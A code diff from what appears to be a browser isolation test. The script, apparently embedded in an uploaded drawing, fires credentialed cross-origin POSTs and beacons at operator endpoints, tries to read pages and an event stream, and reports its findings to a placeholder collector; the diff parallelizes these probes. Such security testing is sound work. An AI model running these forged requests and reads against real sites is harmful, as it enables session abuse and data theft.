@@ -22,7 +22,7 @@ const readable = [...booths.flatMap(pages), ...booths.map((b) => desk + "b/" + b
 const settled = (make) => new Promise((done) => {
   const e = make();
   e.onload = e.onerror = done;
-  setTimeout(done, 200); // a drawing has elements that never say so
+  setTimeout(done, 2000); // a drawing has elements that never say so
   document.documentElement.append(e);
 });
 const xhtml = (tag, more) => Object.assign(document.createElementNS("http://www.w3.org/1999/xhtml", tag), more);
@@ -30,21 +30,16 @@ const xhtml = (tag, more) => Object.assign(document.createElementNS("http://www.
 // Where is which document this runs in: each does all of it.
 const meddle = async (where) => {
   await fetch("COLLECTOR-GATE/", { mode: "no-cors" }); // answers when the test has taken away the operator's own view
-  for (const [path, body] of everything) {
-    for (const headers of [form, { "Content-Type": "text/plain" }]) {
-      for (const mode of ["cors", "no-cors"]) {
-        await fetch(desk + path, { method: "POST", mode, headers, body, credentials: "include" }).catch(() => {});
-      }
-    }
+  await Promise.all(everything.flatMap(([path, body]) => {
     navigator.sendBeacon(desk + path, new Blob([body], { type: form["Content-Type"] }));
-  }
+    return [form, { "Content-Type": "text/plain" }].flatMap((headers) => ["cors", "no-cors"].map((mode) =>
+      fetch(desk + path, { method: "POST", mode, headers, body, credentials: "include" }).catch(() => {})));
+  }));
   let read = [];
-  for (const address of readable) {
-    for (const credentials of ["include", "omit"]) {
-      await fetch(address, { credentials }).then(async (r) => read.push(address + r.status + (await r.text()).slice(0, 40)), () => {});
-    }
-    await fetch(address, { mode: "no-cors", credentials: "include" }).then(async (r) => { if (await r.text()) read.push(address); }, () => {});
-  }
+  await Promise.all(readable.flatMap((address) => [
+    ...["include", "omit"].map((credentials) => fetch(address, { credentials }).then(async (r) => read.push(address + r.status + (await r.text()).slice(0, 40)), () => {})),
+    fetch(address, { mode: "no-cors", credentials: "include" }).then(async (r) => { if (await r.text()) read.push(address); }, () => {}),
+  ]));
   await tell("read-" + where, read);
   let heard = [];
   const stream = new EventSource(desk + "events", { withCredentials: true });
@@ -54,13 +49,10 @@ const meddle = async (where) => {
   });
   stream.close();
   await tell("events-" + where, heard);
-  for (const address of booths.flatMap(pages)) {
-    await settled(() => xhtml("img", { src: address }));
-    await settled(() => xhtml("script", { src: address }));
-    await settled(() => xhtml("link", { rel: "stylesheet", href: address }));
-    await settled(() => xhtml("iframe", { src: address }));
+  await Promise.all(booths.flatMap(pages).flatMap((address) => {
     document.documentElement.append(xhtml("link", { rel: "prefetch", href: address }), xhtml("video", { src: address, preload: "auto" }), xhtml("object", { data: address }));
-  }
+    return [xhtml("img", { src: address }), xhtml("script", { src: address }), xhtml("link", { rel: "stylesheet", href: address }), xhtml("iframe", { src: address })].map((e) => settled(() => e));
+  }));
   let frames = [];
   for (const f of document.getElementsByTagName("iframe")) {
     try { if (f.contentDocument.body.textContent) frames.push(f.src); } catch { /* as it should be */ }
